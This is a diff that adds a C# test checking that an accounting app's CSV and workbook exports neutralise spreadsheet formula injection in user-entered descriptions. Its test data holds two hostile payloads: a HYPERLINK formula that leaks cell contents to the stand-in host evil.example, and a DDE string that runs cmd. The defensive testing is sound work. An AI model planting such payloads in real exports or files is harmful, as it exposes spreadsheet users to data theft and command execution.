@@ -213,6 +213,39 @@ public sealed class ExportTests(DatabaseFixture db) : DatabaseTest(db)
         Assert.DoesNotContain("£", claims);
     }
 
+    /// <summary>
+    /// CSV injection: an allocation's description, typed by a person, becomes its entry's and is exported. In the CSV
+    /// a description a spreadsheet would take for a formula has an apostrophe before it, while negative amounts stay
+    /// numbers; the workbook keeps the description as the text it is, in a text cell, not a formula.
+    /// </summary>
+    [Fact]
+    public async Task Csv_RunsNothingInASpreadsheet_WhileTheWorkbookKeepsTheTextAsText()
+    {
+        var x = await ExportWorld.CreateAsync(Db);
+        const string link = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open the evidence\")", dde = "@SUM(1+1)*cmd|' /C calc'!A0";
+        foreach (var description in new[] { link, dde })
+            (await x.W.S.Root.PostAsync($"{x.W.S.Year}/allocations", new
+            {
+                valueDate = "2026-10-01", description,
+                lines = new[] { new { schoolId = x.W.S.Schools[1].Id, categoryId = x.W.S.Categories["action-plan"], amount = "1.00" } },
+            })).Expect(HttpStatusCode.Created);
+
+        var folder = ExportWorld.TempFolder();
+        var files = (await ExportAsync(x, ExportKind.Csv, folder)).ToDictionary(f => Path.GetFileName(f.Path)[$"{x.Code}-{x.Today:yyyy-MM-dd}-".Length..^4],
+            f => File.ReadAllText(f.Path));
+        Assert.Contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Open the evidence\"\")\",", files["journal"]);
+        Assert.Contains(",'@SUM(1+1)*cmd|' /C calc'!A0,", files["journal"]);
+        Assert.Matches(",-\\d+\\.\\d{2},", files["trial-balance"]); // a credit balance, debits less credits: still a number
+        Assert.All(files.Values.SelectMany(f => f.Split("\r\n")), l => Assert.False(l.Length > 0 && l[0] is '=' or '@', l));
+
+        var book = await ExportWorld.ReadWorkbookAsync((await ExportAsync(x, ExportKind.Workbook, ExportWorld.TempFolder())).Single().Path);
+        var journal = Sheet(book, "Journal");
+        var column = Array.IndexOf(Headers(journal), "Description");
+        var row = journal["rows"]!.AsArray().Select((r, i) => (r, i)).Single(r => r.r![column]?.GetValue<string>() == link).i;
+        Assert.Null(journal["formulas"]![row]![column]); // text, not a formula
+        Assert.Contains(journal["rows"]!.AsArray(), r => r![column]?.GetValue<string>() == dde);
+    }
+
     [Fact]
     public async Task BalancesAsOfADate_AreTheSame_SummedFromTransfers_OrFromStoredBalancesLessLaterTransfers()
     {
